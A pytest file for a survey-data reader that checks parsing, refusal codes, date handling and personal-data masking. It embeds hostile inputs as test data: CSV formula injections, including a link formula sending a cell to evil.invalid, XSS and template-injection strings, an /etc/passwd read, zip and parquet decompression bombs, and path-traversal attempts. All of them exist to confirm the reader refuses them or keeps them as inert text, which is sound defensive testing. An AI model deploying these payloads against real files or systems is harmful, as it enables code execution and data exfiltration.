"""Inputs that files out there hold: kept as text, refused by a code, or handled and counted. Contents are exact."""

import io
import struct
import zipfile

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cxkit.errors import CxError
from tests.evidence.folders import read

TEXTS = "- {id: v, kind: verbatims, file: evidence/v.csv, columns: {text: t}}"
NPS = "- {id: s, kind: survey, file: evidence/s.csv, scores: [{metric: nps, columns: {nps: overall}, scale: [0, 10]}]}"
DATED = "- {id: s, kind: survey, file: evidence/s.csv, columns: {time: d}, scores: [{metric: nps, columns: {nps: overall}, scale: [0, 10]}]}"
WHO = """
- id: s
  kind: survey
  file: evidence/s.csv
  columns: {respondent: id}
  scores: [{metric: nps, columns: {nps: overall}, scale: [0, 10]}]
"""
BOOK = NPS.replace("s.csv", "s.xlsx")


def refused(root, sources, files):
    with pytest.raises(CxError) as error:
        read(root, sources, files)
    assert error.value.text("fr").count("CX-E") == error.value.text("en").count("CX-E") == len(error.value.faults)
    return [(fault.code, fault.where) for fault in error.value.faults]


def sheet(cells) -> bytes:
    book = openpyxl.Workbook()
    for row in cells:
        book.active.append(row)
    raw = io.BytesIO()
    book.save(raw)
    return raw.getvalue()


LITERAL = ["=cmd|' /C calc'!A1", '=HYPERLINK("https://evil.invalid/?x="&A1,"ok")', "\t=1+1", "</script><script>window.__X5=1</script>",
           '<img src=x onerror="window.__X2=1">', "[clic](javascript:window.__X4=1)",
           '<button data-commandlinker-command="terminal:create-new">', "{{7*7}}", '#read("/etc/passwd") $1/0$ @ref', "prix $10 et $20",
           "NA", "None", "null", "x" * 40_000]


def test_kept_as_literal_text(tmp_path):
    lines = "t\n" + "".join('"' + text.replace('"', '""') + '"\n' for text in LITERAL)
    assert read(tmp_path, TEXTS, {"v.csv": lines})["verbatims"]["text"].tolist() == LITERAL


def test_a_phone_number_is_text_and_masked(tmp_path):
    evidence = read(tmp_path, TEXTS, {"v.csv": "t\n+33 6 12 34 56 78\n0612345678\n"})
    assert evidence["verbatims"]["text"].tolist() == ["[téléphone]", "[téléphone]"]
    assert evidence.reading[0].masked == {"phone": 2}


@pytest.mark.parametrize(("content", "expected"), [
    ("nps,nps\n9,8\n", ("CX-E207", "evidence/s.csv:1")),
    ("nps\n9,8\n", ("CX-E208", "evidence/s.csv:2")),
    ('nps\n"9\n8\n', ("CX-E209", "evidence/s.csv:2")),
    ("", ("CX-E214", "evidence/s.csv")),
    ("\n\n", ("CX-E214", "evidence/s.csv")),
    ("note\n9\n", ("CX-E220", "evidence/s.csv")),
    ("nps\n9\n8\nabc\n", ("CX-E224", "evidence/s.csv")),
    (b"nps\n\x81\x8d\n", ("CX-E210", "evidence/s.csv:2")),
])
def test_refused_csv(tmp_path, content, expected):
    assert refused(tmp_path, NPS, {"s.csv": content}) == [expected]


@pytest.mark.parametrize(("dates", "expected", "counts"), [
    (["03/02/2025", "2025-02-13", "45678"], "CX-E221", "day_month: 1, iso: 1, number: 1"),
    (["2025-02-13T10:00:00Z", "2025-02-13 11:00"], "CX-E223", "iso: 1, iso_zoned: 1"),
    (["03/02/2025", "13/02/2025"], "CX-E222", None),
    (["45678", "45679"], "CX-E234", None),
])
def test_refused_dates(tmp_path, dates, expected, counts):
    with pytest.raises(CxError) as error:
        read(tmp_path, DATED, {"s.csv": "d,nps\n" + "".join(f"{date},9\n" for date in dates)})
    fault, = error.value.faults
    assert fault.code == expected
    assert dict(fault.facts).get("counts") == counts


def test_refused_workbooks(tmp_path):
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    formula = sheet([["nps"], ["=1+1"]])
    assert refused(tmp_path / "h", BOOK, {"s.xlsx": "<html><table></table></html>"}) == [("CX-E204", "evidence/s.xlsx")]
    assert refused(tmp_path / "e", BOOK, {"s.xlsx": ole}) == [("CX-E205", "evidence/s.xlsx")]
    assert refused(tmp_path / "t", BOOK, {"s.xlsx": formula[:-200]}) == [("CX-E206", "evidence/s.xlsx")]
    assert refused(tmp_path / "f", BOOK, {"s.xlsx": formula}) == [("CX-E212", "evidence/s.xlsx[Sheet]")]
    named = BOOK.replace("kind: survey,", "kind: survey, dialect: {sheet: Shett},")
    assert refused(tmp_path / "n", named, {"s.xlsx": formula}) == [("CX-E211", "evidence/s.xlsx")]


def test_bombs_are_refused_before_reading(tmp_path):
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)
    assert refused(tmp_path / "x", BOOK, {"s.xlsx": raw.getvalue()}) == [("CX-E202", "evidence/s.xlsx")]
    parquet = io.BytesIO()
    flat = pa.DictionaryArray.from_arrays(pa.array([0] * 1_000_000, pa.int8()), ["9"])
    with pq.ParquetWriter(parquet, pa.schema({"nps": flat.type})) as writer:
        for _ in range(21):
            writer.write_table(pa.table({"nps": flat}))
    assert refused(tmp_path / "p", NPS.replace("s.csv", "s.parquet"), {"s.parquet": parquet.getvalue()}) == [("CX-E203", "evidence/s.parquet")]
    whole = parquet.getvalue()
    cut = whole[:len(whole) // 2] + struct.pack("<I", 7) + b"PAR1"
    assert refused(tmp_path / "q", NPS.replace("s.csv", "s.parquet"), {"s.parquet": cut}) == [("CX-E206", "evidence/s.parquet")]


def test_same_respondent_twice(tmp_path):
    assert refused(tmp_path / "c", WHO, {"s.csv": "id,nps\nA,9\nB,3\nA,2\n"}) == [("CX-E225", "evidence/s.csv")]
    evidence = read(tmp_path / "r", WHO, {"s.csv": "id,nps\nA,9\nB,3\nA,9\n"})
    assert len(evidence["scores"]) == 2
    assert evidence.reading[0].reasons == (("repeated_row", 1, (4,)),)
    customers = "- {id: k, kind: customers, file: evidence/k.csv, columns: {respondent: id}, attributes: [{id: p, column: p, name: P}]}"
    assert refused(tmp_path / "j", customers, {"k.csv": "id,p\n1,a\n1,b\n"}) == [("CX-E225", "evidence/k.csv")]


def test_all_faults_of_all_sources_at_once(tmp_path):
    both = NPS + "\n" + TEXTS.replace("v.csv", "none.csv") + "\n- {id: m, kind: interactions, file: evidence/s.csv, columns: {time: nps}}"
    assert [code for code, _ in refused(tmp_path, both, {"s.csv": "nps,nps\n"})] == ["CX-E207", "CX-E200", "CX-E207"]


def test_messages_hold_no_value_of_a_cell(tmp_path):
    with pytest.raises(CxError) as error:
        read(tmp_path, NPS, {"s.csv": "nps\njean.dupont@free.fr\nJean Dupont\n"})
    for language in ("en", "fr"):
        assert "dupont" not in error.value.text(language).lower()


def test_a_file_without_header_names_nobody(tmp_path):
    """The first person then stands where the names of columns should: nothing of it is told, nor are sheets called after people."""
    rows = "Hortense Vauquelin,Hortense Vauquelin,06 39 98 01 02\nBertrand Lachaume,B,06 39 98 03 04\n"
    sheets = openpyxl.Workbook()
    sheets.active.title = "Hortense Vauquelin"
    raw = io.BytesIO()
    sheets.save(raw)
    named = NPS.replace("nps: overall", "Vauquelin: overall")
    for source, files in ((NPS, {"s.csv": rows}), (named, {"s.csv": "Hortense Vauquelin,x\n9,1\n"}),
                          (BOOK.replace("kind: survey,", "kind: survey, dialect: {sheet: Hortense},"), {"s.xlsx": raw.getvalue()})):
        with pytest.raises(CxError) as error:
            read(tmp_path, source, files)
        told = (error.value.text("en") + error.value.text("fr")).replace("column Vauquelin", "").replace("colonne Vauquelin", "")
        assert [name for name in ("Vauquelin", "Lachaume", "39 98") if name in told] == [], told
    assert "(column 1, column 2)" in refusal(tmp_path / "t", NPS, {"s.csv": rows})


def refusal(root, sources, files):
    with pytest.raises(CxError) as error:
        read(root, sources, files)
    return error.value.text("en")


def test_cp1252_decimal_comma_day_first(tmp_path):
    mapping = """
    - id: s
      kind: survey
      file: evidence/s.csv
      dialect: {decimal: ",", day_first: true}
      columns: {respondent: id, time: d, text: t}
      scores: [{metric: nps, columns: {n: overall}, scale: [0, 10]}]
    """
    evidence = read(tmp_path, mapping, {"s.csv": "id;d;n;t\n1;03/02/2025;7,5;déçu œuf €\n".encode("cp1252")})
    assert evidence["scores"][["value", "time"]].iloc[0].tolist() == [7.5, pd.Timestamp("2025-02-03")]
    assert evidence["verbatims"]["text"].item() == "déçu œuf €"


@pytest.mark.parametrize("content", ["\ufeff\ufeffnps\n9\n", "sep=;\nnps;x\n9;1\n", "\ufeffsep=;\r\nnps;x\r\n9;\r\n", "nps\r\n9\r\n", "nps\n9",
                                     "nps\tx\n9\t\n", "nps|x\n9|1\n"])
def test_marks_and_separators_are_found(tmp_path, content):
    assert read(tmp_path, NPS, {"s.csv": content})["scores"]["value"].tolist() == [9.0]


def test_line_numbers_count_the_sep_line_and_lines_inside_quotes(tmp_path):
    evidence = read(tmp_path, TEXTS, {"v.csv": 'sep=,\nt\n"a\nb"\nc\n'})
    assert evidence["verbatims"][["row", "text"]].to_numpy().tolist() == [[3, "a\nb"], [5, "c"]]


def test_narrow_spaces_group_thousands(tmp_path):
    mapping = """
    - id: k
      kind: customers
      file: evidence/k.csv
      dialect: {separator: ";", decimal: ","}
      columns: {respondent: id}
      attributes: [{id: spend, column: s, name: S, type: number}]
    """
    values = ["1 234,50", "1\u202f234,50", "1\u00a0234,50", "-3,5", "\u22123,5"]
    evidence = read(tmp_path, mapping, {"k.csv": "id;s\n" + "".join(f"{n};{value}\n" for n, value in enumerate(values))})
    assert evidence["respondents"]["spend"].tolist() == [1234.5, 1234.5, 1234.5, -3.5, -3.5]


def test_scores_out_of_scale_are_rejected_by_line(tmp_path):
    good = "".join("9\n" for _ in range(96))
    evidence = read(tmp_path / "ok", NPS, {"s.csv": "nps\n11\n99\n-1\nabc\n" + good})
    account = evidence.reading[0]
    assert account.reasons == (("number/nps", 1, (5,)), ("scale/nps", 3, (2, 3, 4)))
    assert (account.rows_read, account.rows_kept, account.cells_valid, account.cells_missing, account.cells_rejected) == (100, 100, 96, 0, 4)
    assert refused(tmp_path / "no", NPS, {"s.csv": "nps\n11\n99\n-1\nabc\nx\ny\n" + good}) == [("CX-E224", "evidence/s.csv")]


def test_hours_that_a_change_of_clocks_skips_or_repeats(tmp_path):
    lines = "d,nps\n2025-03-30 02:30,9\n2025-10-26 02:30,8\n2025-06-01 12:00,7\n"
    evidence = read(tmp_path, DATED, {"s.csv": lines})
    assert evidence["scores"]["time"].dt.strftime("%m-%d %H:%M").tolist() == ["03-30 03:30", "10-26 02:30", "06-01 12:00"]
    assert evidence.reading[0].reasons == (("hour_absent/d", 1, ()), ("hour_twice/d", 1, ()))


def test_zoned_times_are_told_in_the_clients_zone_and_sorted_by_instant(tmp_path):
    mapping = "- {id: l, kind: interactions, file: evidence/l.csv, columns: {respondent: c, time: d, touchpoint: t}}"
    lines = "c,d,t\n1,2024-10-27T01:10:00Z,shop\n1,2024-10-27T00:50:00Z,website\n"
    table = read(tmp_path, mapping, {"l.csv": lines})["interactions"]
    assert table["touchpoint"].tolist() == ["website", "shop"]
    assert table["time"].dt.strftime("%H:%M").tolist() == ["02:50", "02:10"]


def test_impossible_years_are_rejected(tmp_path):
    lines = "d,nps\n1900-01-01,9\n2099-01-01,9\n" + "2025-01-01,9\n" * 60
    account = read(tmp_path, DATED, {"s.csv": lines}).reading[0]
    assert account.reasons == (("date_range/d", 2, (2, 3)),)


def test_control_characters_and_lone_surrogates_are_removed(tmp_path):
    assert read(tmp_path / "c", TEXTS, {"v.csv": "t\na\x00b\x1bc\u200dd\n"})["verbatims"]["text"].item() == "abc\u200dd"
    evidence = read(tmp_path / "j", TEXTS.replace("v.csv", "v.jsonl"), {"v.jsonl": '{"t": "x\\ud800y"}\n'})
    assert evidence["verbatims"]["text"].item() == "xy"
    assert evidence.reading[0].reasons == (("control_characters", 1, ()),)


def test_no_row_one_row_one_value(tmp_path):
    none = read(tmp_path / "0", DATED, {"s.csv": "d,nps\n"})
    assert (none.has("scores"), none.sources[0].n, none.reading[0].rows_read) == (False, 0, 0)
    one = read(tmp_path / "1", DATED, {"s.csv": "d,nps\n2025-01-01,10\n"})
    assert one["scores"]["value"].tolist() == [10.0]
    blank = read(tmp_path / "b", DATED, {"s.csv": "d,nps\n2025-01-01,\n2025-01-02,\n"})
    assert (blank.has("scores"), blank.reading[0].cells_missing) == (False, 2)


def test_short_rows_are_rejected_and_counted(tmp_path):
    account = read(tmp_path, DATED, {"s.csv": "d,nps\n2025-01-01\n2025-01-02,9\n\n"}).reading[0]
    assert (account.rows_read, account.rows_kept, account.rows_rejected) == (2, 1, 1)
    assert account.reasons == (("short_row", 1, (2,)),)


def test_files_stay_inside_the_folder(tmp_path):
    (tmp_path / "out.csv").write_text("nps\n9\n")
    assert refused(tmp_path / "c", NPS.replace("evidence/s.csv", "../out.csv"), {}) == [("CX-E004", "client.yaml")]
    root = tmp_path / "d"
    (root / "evidence").mkdir(parents=True)
    (root / "evidence" / "s.csv").symlink_to(tmp_path / "out.csv")
    assert refused(root, NPS, {}) == [("CX-E004", "client.yaml")]


def test_direct_identifiers_are_refused_unless_allowed(tmp_path):
    mapping = "- {id: k, kind: customers, file: evidence/k.csv, columns: {respondent: id}, attributes: [{id: m, column: E-mail, name: M}]}"
    files = {"k.csv": "id,E-mail\n1,a@b.fr\n"}
    assert refused(tmp_path / "n", mapping, files) == [("CX-E233", "client.yaml")]
    allowed = read(tmp_path / "y", mapping, files, "privacy: {allow: [k.E-mail]}\n")
    assert allowed["respondents"]["m"].tolist() == ["[courriel]"]
